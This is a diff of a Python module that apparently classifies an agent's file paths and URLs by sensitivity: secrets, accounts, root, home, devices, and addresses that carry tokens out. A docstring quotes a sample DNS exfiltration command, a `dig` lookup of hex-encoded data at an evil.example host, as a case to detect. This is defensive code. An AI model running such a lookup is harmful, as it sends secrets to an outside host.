@@ -1,23 +1,38 @@
 """Places that are no secret and still no ordinary reading: accounts, the machine's own state, other people's homes.
 
-`accounts` and `machine` concern reading, `vendored` and what others obey writing; `telling` drops what says nothing
-about an action. A list of names is rarely worth a question, so that listing a folder keeps none of them. The machine's
-configuration is a root with exceptions: the files of it that everybody reads are named, not those that nobody should.
+Which acts each of these marks says something about is the table of marks.py. The machine's configuration is a root with
+exceptions: the files of it that everybody reads are named, not those that nobody should.
 """
 
 from __future__ import annotations
 
 from ...approve.glob import matches
-from ...value import TYPE_CHECKING
-from .paths import folded, in_project
-from .secret_files import sort_of
+from ...value import TYPE_CHECKING, lazy
+from .paths import holds, in_project
 
 if TYPE_CHECKING:
     from collections.abc import Mapping
 
     from ...model.facts import Facts
+    from ..reach.addresses import carries
+    from .secret_words import holds_token
+else:
+    carries = lazy(globals(), "..reach.addresses", "carries")
+    holds_token = lazy(globals(), ".secret_words", "holds_token")
 
-__all__ = ["METADATA", "address_marks", "is_control_plane", "is_device", "place_marks", "telling"]
+__all__ = [
+    "HERE",
+    "HERE_BY_NAME",
+    "METADATA",
+    "SYSTEM_FOLDERS",
+    "address_marks",
+    "ground",
+    "host_in",
+    "host_of",
+    "is_control_plane",
+    "is_device",
+    "place_marks",
+]
 
 # Who has an account, and what each of them may do.
 _ACCOUNTS = (
@@ -86,14 +101,10 @@ def address_marks(target: Mapping[str, object]) -> list[str]:
     authority, _, path = (url.partition("://")[2] or url).partition("/")
     if authority.endswith(_DAEMONS):
         return ["privileged"]
-    from .secret_words import holds_token
-
     if ("/" + path).startswith(_SHOWN) or holds_token(path):
         return ["secret"]  # a token would be sent there
     if "?" not in url and len(path) < 16 and len(authority) < 24:
         return []
-    from ..reach.addresses import carries
-
     found = carries(str(target.get("host") or authority), url)
     return ["secret"] if found == "token" else ["sends"] if found else []
 
@@ -102,8 +113,6 @@ def _of_labels(host: object) -> list[str]:
     """`dig 6b65793d….evil.example`: a name that is looked up is sent, too."""
     if type(host) is not str or len(host) < 24 or ":" in host:
         return []
-    from ..reach.addresses import carries
-
     found = carries(host, host)
     return ["secret"] if found == "token" else ["sends"] if found else []
 
@@ -152,51 +161,69 @@ def _at_or_by(root: str) -> tuple[str, ...]:
 
 _WITH_ACCOUNTS = frozenset(root.split("/")[1] for root in _ACCOUNTS)
 _WITH_MACHINE = frozenset(root.split("/")[1] for root in _MACHINE)
-_ONLY_READING = frozenset(("accounts", "machine"))
-_ONLY_WRITING = frozenset(("vendored", "disguised", "obeyed", "obeyed-asked", "obeyed-noted"))
-_OF_CONTENT = frozenset(("obeyed", "obeyed-asked", "obeyed-noted"))
-_LOOKING = _ONLY_READING | _ONLY_WRITING | {"privileged"}
-_WRITES = frozenset(
-    ("fs:write", "fs:move", "fs:link", "brings", "builds", "write", "folder", "touched", "edit", "move", "link")
+
+
+def ground(path: str, glob: bool, facts: Facts) -> list[str]:
+    """Places whose loss cannot be mended: a root, a home, a whole project, a device."""
+    found = []
+    depth = path.count("/")
+    if path == "/" or (depth == 1 and path[1:] in _TOP):
+        found.append("root")
+    if path in (facts.home, "/root", "/home", "/Users") or (depth == 2 and path.startswith(("/home/", "/Users/"))):
+        found.append("home")
+    if is_device(path):
+        found.append("device")
+    if (path == facts.root and not glob) or (holds(path, facts.root) and path != facts.root):
+        found.append("project-root")
+    return found
+
+
+_TOP = frozenset(
+    (
+        "bin", "boot", "dev", "etc", "home", "lib", "lib64", "opt", "proc", "root", "sbin", "srv", "sys", "usr", "var",
+        "Users", "System", "Library", "Applications", "private",
+    )
+)  # fmt: skip
+
+
+_OF_HOSTS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_:[]"
+
+
+def host_of(url: str) -> str | None:
+    """The host of a plain http(s) URL. User names, odd characters and other schemes: None."""
+    scheme, mark, rest = url.partition("://")
+    if not mark or scheme.lower() not in ("http", "https") or not url.isascii() or not url.isprintable():
+        return None
+    authority = rest.replace("?", "/").replace("#", "/").partition("/")[0]
+    # Programs differ in where a name ends: for wget at a `;`. So nothing is one but what names are made of.
+    if not authority or authority.strip(_OF_HOSTS):
+        return None
+    if authority.startswith("["):
+        name, bracket, port = authority[1:].partition("]")
+        port = port.removeprefix(":") if bracket else "?"
+    else:
+        name, _, port = authority.partition(":")
+    if not name or (port and not port.isdigit()):
+        return None
+    # One name for one machine: with the final dot of a full name, or as an older address in the newer form.
+    return name.lower().removesuffix(".").removeprefix("::ffff:")
+
+
+SYSTEM_FOLDERS = (
+    *("/bin/", "/usr/bin/", "/usr/local/bin/", "/opt/homebrew/bin/"),
+    *("/sbin/", "/usr/sbin/", "/usr/local/sbin/"),
 )
-_READS = frozenset(("fs:read", "read", "checked", "send", "script", "runs"))
-_LISTS = frozenset(("fs:list", "list", "count"))
-_LOOKS = _LISTS | {"fs:search", "search"}
-_MADE_ANEW = (".env", ".npmrc", ".pypirc")  # files that projects bring along, with or without a secret in them
 
 
-def _shows_nothing(path: str, new: bool) -> bool:
-    """`cp .env.example .env`, `openssl … -keyout server.key`: where nothing was, no secret is lost or seen.
-
-    A file that only may hold secrets is the project's to write: a value in `prod.tfvars`, a manifest.
-    """
-    if new and path.rpartition("/")[2].startswith(_MADE_ANEW):
-        return True
-    sort = sort_of(folded(path).split("/")[1:])
-    return sort == "judged" or (new and sort != "")
+# Contexts, connections, builders and kinds of builders that come with the programs, and lead to no other machine.
+HERE_BY_NAME = (
+    "", "default", "desktop-linux", "desktop-windows", "rootless", "orbstack", "colima", "rancher-desktop", "lima",
+    "podman-machine-default", "podman-machine-default-root", "docker", "docker-container", "remote",
+)  # fmt: skip
+HERE = ("localhost", "127.0.0.1", "[::1]", "0.0.0.0")  # noqa: S104 - compared with
 
 
-_PUBLIC_SSH = ("config", "known_hosts", "known_hosts.old")
-
-
-def telling(marks: list[str], role: str, path: str) -> list[str]:
-    """The marks that say something about what is done with the path: an action's name, or a role of a row."""
-    if not marks:
-        return []
-    if role == "taken":  # the project's own key or values; another key has no business in the project's work
-        role = "read" if "outside" in marks else "count"
-    if role in _LOOKS:
-        return [mark for mark in marks if mark not in _LOOKING and (mark != "secret" or role not in _LISTS)]
-    if role in _READS:
-        public = path.endswith(".pub") or ("/.ssh/" in path and path.rpartition("/")[2] in _PUBLIC_SSH)
-        return [mark for mark in marks if mark not in _ONLY_WRITING and not (public and mark == "secret")]
-    dropped = _ONLY_READING if role in _WRITES else _ONLY_READING | _ONLY_WRITING
-    if role == "folder":
-        dropped |= _OF_CONTENT  # an empty folder says nothing to anybody
-    if role in ("closed", "mode") and "outside" not in marks:
-        dropped |= {"secret"}  # who may read a key of the project says nothing of what is in it
-    if "guard" in marks:
-        dropped -= {"obeyed"}
-    if "secret" in marks and "outside" not in marks and role in _WRITES and _shows_nothing(path, "new" in marks):
-        dropped |= {"secret"}
-    return [mark for mark in marks if mark not in dropped]
+def host_in(text: str) -> str:
+    """The machine that an address names."""
+    rest = text.partition("://")[2] or text
+    return rest.partition("/")[0].rpartition("@")[2].rpartition(":")[0] or rest.partition("/")[0]
